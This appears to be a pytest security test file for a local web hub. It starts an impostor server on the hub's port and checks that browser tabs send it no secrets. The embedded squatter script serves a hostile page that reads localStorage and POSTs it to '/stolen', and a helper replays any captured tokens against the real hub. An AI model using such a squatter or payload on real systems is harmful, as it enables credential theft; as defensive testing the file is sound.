"""Programs of other users at the hub's port, at another one, or at the other family's: they are told nothing."""

from __future__ import annotations

import json
import socket
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from tests.browser.windows import Window, expect
from tests.ground import Ground
from tests.hubs import HubProcess
from tests.security.attacks import ask, knock
from tests.security.test_files import NOBODY, as_root
from tests.support import eventually

pytestmark = pytest.mark.keeps_page

# It answers everything, takes whatever comes, and plays the hub as well as it can without knowing anything.
SQUATTER = r"""
import json, socket, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

heard = open(sys.argv[3], "a", buffering=1)
EVIL = (
    "<body><script>document.title = 'squatted ' + JSON.stringify(localStorage);"
    "fetch('/stolen', { method: 'POST', body: JSON.stringify(localStorage) })</script>"
)

class Squatter(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def answer(self):
        body = self.rfile.read(int(self.headers.get("content-length") or 0)).decode("latin-1")
        heard.write(json.dumps([self.command, self.path, dict(self.headers), body]) + "\n")
        words = dict.fromkeys(("ticket", "token", "id", "csrf"), "x") | {"role": "owner"}
        kind, text = "application/json", json.dumps({"nonce": "h" * 32, "proof": "p" * 43, **words})
        if self.headers.get("sec-fetch-mode") == "navigate":
            kind, text = "text/html", EVIL
        elif self.path.startswith("/sw.js"):
            kind, text = "text/javascript", "skipWaiting(); addEventListener('activate', () => clients.claim())"
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())

    do_GET = do_POST = do_PATCH = do_DELETE = do_HEAD = answer

    def log_message(self, *words):
        pass

class Server(ThreadingHTTPServer):
    address_family = socket.AF_INET6 if ":" in sys.argv[1] else socket.AF_INET

server = Server((sys.argv[1], int(sys.argv[2])), Squatter)
print(server.server_address[1], flush=True)
server.serve_forever()
"""


class Squatter:
    def __init__(self, process: subprocess.Popen[str], file: Path) -> None:
        self.process, self.file = process, file
        assert process.stdout is not None
        self.port = int(process.stdout.readline() or 0)

    def heard(self) -> list[tuple[str, str, dict[str, str], str]]:
        return [json.loads(line) for line in self.file.read_text().splitlines()]


@contextmanager
def squatting(ground: Ground, host: str, port: int) -> Iterator[Squatter]:
    """Somebody else's program on that port. As root, that of another user."""
    file = ground.watch.scratch / f"heard-{port}"
    file.touch()
    file.chmod(0o666)
    ground.watch.scratch.chmod(0o755)
    other = {"user": NOBODY, "group": NOBODY, "extra_groups": []} if as_root.args[0] is False else {}
    argv = ["/usr/bin/python3", "-c", SQUATTER, host, str(port), str(file)]
    kept = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    with subprocess.Popen(argv, **kept, **other) as process:  # type: ignore[call-overload]
        try:
            yield Squatter(process, file)
        finally:
            process.kill()
            assert process.stderr is not None
            process.stderr.read()


def secrets_of(window: Window) -> dict[str, str]:
    kept: dict[str, Any] = json.loads(window.page.evaluate("localStorage.getItem('sign-in')"))
    return kept


def usable(squatter: Squatter, hub: HubProcess) -> list[str]:
    """All of what it heard that lets somebody in at the hub that is there now."""
    found = []
    for _, path, headers, body in squatter.heard():
        token = {key.lower(): value for key, value in headers.items()}.get("authorization")
        if token and ask(hub, "GET", "/api/me", [("Authorization", token)]).status == 200:
            found.append(token)
        if "ticket=" in path and knock(hub, path, [("Origin", hub.url)]).status == 101:
            found.append(path)
        if (
            '"proof"' in body
            and ask(hub, "POST", path, [("Content-Type", "application/json")], body.encode()).status == 200
        ):
            found.append(body)
    return found


@pytest.mark.ids("S1")
def test_a_squatter_on_the_dead_hubs_port_is_told_nothing_by_an_open_tab(
    ground: Ground, hub: HubProcess, window: Window
) -> None:
    dev = ground.begin_sh("echo hello; exec cat", name="dev")
    window.open_session("dev")
    window.expect_shown("hello")
    kept, port = secrets_of(window), int(hub.url.rpartition(":")[2])
    page = window.page
    page.evaluate("navigator.serviceWorker.ready.then(() => undefined)")
    hub.kill()
    with squatting(ground, "127.0.0.1", port) as squatter:
        status = page.get_by_role("status").first
        expect(status).to_contain_text("has not proved that it is your hub")
        asked = [path for _, path, _, _ in squatter.heard()]
        assert set(asked) <= {"/api/sign-in/challenge"}, asked

        # a reload shows our own page, which asks the same question, and not the squatter's
        page.reload()
        expect(status).to_contain_text("has not proved that it is your hub")
        assert "squatted" not in page.title()
        eventually(lambda: len(squatter.heard()) > len(asked))
        everything = json.dumps(squatter.heard())
        assert not [
            path for _, path, _, _ in squatter.heard() if not path.startswith(("/api/sign-in/challenge", "/fav"))
        ]
        assert kept["secret"] not in everything
        assert "uthorization" not in everything
        assert '"proof"' not in everything
        assert not [one for one in squatter.heard() if "cookie" in {key.lower() for key in one[2]}]
    hub.start(port=port)
    assert usable(squatter, hub) == []
    expect(page.locator(".link.open")).to_be_attached()
    window.expect_shown("hello")
    window.type("again")
    window.expect_shown("again")
    ground.end(dev)


OPEN_IN_FRAME = """([address, method]) => new Promise((loaded) => {
    const frame = document.createElement("iframe");
    frame.name = "inner";
    const form = document.createElement("form");
    Object.assign(form, { action: address, method, target: "inner" });
    frame.onload = () => {
        frame.onload = loaded;
        form.submit();
    };
    document.body.append(form, frame);
}).then(() => undefined)"""
OPEN_BY_FORM = """([address, method]) => {
    const form = document.createElement("form");
    Object.assign(form, { action: address, method });
    document.body.append(form);
    form.submit();
}"""


@pytest.mark.ids("S1")
@pytest.mark.parametrize("path", ["/link", "/api/sessions", "/favicon.svg", "/"])
def test_no_link_form_or_frame_opens_what_a_squatter_has_where_the_secret_is(
    ground: Ground, hub: HubProcess, window: Window, path: str
) -> None:
    """A page of the same site, on another port, leads to what somebody else has put at the dead hub's address."""
    kept, port = secrets_of(window), int(hub.url.rpartition(":")[2])
    window.page.evaluate("navigator.serviceWorker.ready.then(() => undefined)")
    window.page.goto("about:blank")
    hub.kill()
    with squatting(ground, "127.0.0.1", port) as squatter, squatting(ground, "127.0.0.1", 0) as lure:
        page = window.context.new_page()
        for method in ("get", "post"):
            page.goto(f"http://127.0.0.1:{lure.port}/")
            page.evaluate(OPEN_IN_FRAME, [hub.url + path, method])
            page.evaluate(OPEN_BY_FORM, [hub.url + path, method])
            expect(page.get_by_role("status").first).to_contain_text("has not proved that it is your hub")
        asked = [(method, path) for method, path, _, _ in squatter.heard() if not path.startswith("/fav")]
        assert set(asked) == {("POST", "/api/sign-in/challenge")}
        assert kept["secret"] not in json.dumps(squatter.heard())


@pytest.mark.ids("S1")
def test_a_server_on_another_port_gets_nothing_from_a_browser_that_is_signed_in(
    ground: Ground, hub: HubProcess, window: Window
) -> None:
    kept = secrets_of(window)
    assert window.context.cookies() == []
    with squatting(ground, "127.0.0.1", 0) as squatter:
        other = window.context.new_page()
        other.goto(f"http://127.0.0.1:{squatter.port}/link")
        other.wait_for_function("document.title.startsWith('squatted')")
        assert other.title() == "squatted {}", "its storage is its own"
        reached = other.evaluate(
            """async (hub) => {
                const tried = [];
                for (const path of ["/api/me", "/api/sessions", "/api/sign-in/challenge"])
                    for (const mode of ["cors", "no-cors"])
                        tried.push(fetch(hub + path, { mode, credentials: "include" }));
                return (await Promise.allSettled(tried)).map((one) => one.value?.type ?? "refused");
            }""",
            hub.url,
        )
        assert set(reached) <= {"refused", "opaque"}
        everything = json.dumps(squatter.heard())
        assert squatter.heard()
        assert kept["secret"] not in everything
        assert not [one for one in squatter.heard() if {"cookie", "authorization"} & {key.lower() for key in one[2]}]
        assert usable(squatter, hub) == []


@pytest.mark.ids("S1", "S13")
@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "::1"])
def test_both_families_are_the_hubs_whatever_it_is_told(
    ground: Ground, windows: Callable[..., Window], hub: HubProcess, host: str
) -> None:
    hub.stop()
    answer = ground.hitch("up", "--host", host, "--port", "0", "--json").json()
    url = answer["url"].rstrip("/")
    port = int(url.rpartition(":")[2])
    try:
        for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            with socket.socket(family) as taken:
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                with pytest.raises(OSError, match="in use"):
                    taken.bind((address, port))
        hub.url = url
        window = windows()
        window.page.goto(answer["launch_url"])
        expect(window.page.locator(".link.open")).to_be_attached()
        assert window.page.evaluate("location.origin") == url
    finally:
        ground.hitch("down")


@pytest.mark.ids("S13")
def test_a_hub_does_not_start_beside_a_squatter_on_the_other_family(ground: Ground) -> None:
    with socket.socket(socket.AF_INET6) as taken:
        taken.bind(("::1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        for host in ("127.0.0.1", "localhost", "::1"):
            answer = ground.hitch("up", "--host", host, "--port", str(port), check=False)
            assert answer.code != 0
            assert f"cannot listen on [::1]:{port}: address already in use" in answer.err
    assert not (ground.home / "hub.sock").exists()


@pytest.mark.ids("S1")
def test_a_page_with_a_sign_in_of_an_older_version_is_signed_out_and_told_what_to_do(
    ground: Ground, hub: HubProcess, windows: Callable[..., Window]
) -> None:
    port = int(hub.url.rpartition(":")[2])
    (ground.home / "tokens.json").write_text(
        '{"schema": 1, "tokens": {}, "browsers": {"%s": {"role": "owner", "expires_at": "2999-01-01T00:00:00Z"}}}'
        % ("a" * 64)
    )
    window = windows()
    window.context.add_cookies([{"name": f"hitchpost-{port}", "value": "old", "url": hub.url}])
    window.page.goto(hub.url)
    expect(window.page.get_by_text("This page is not signed in.")).to_be_visible()
    expect(window.page.get_by_text("hitch up")).to_be_visible()
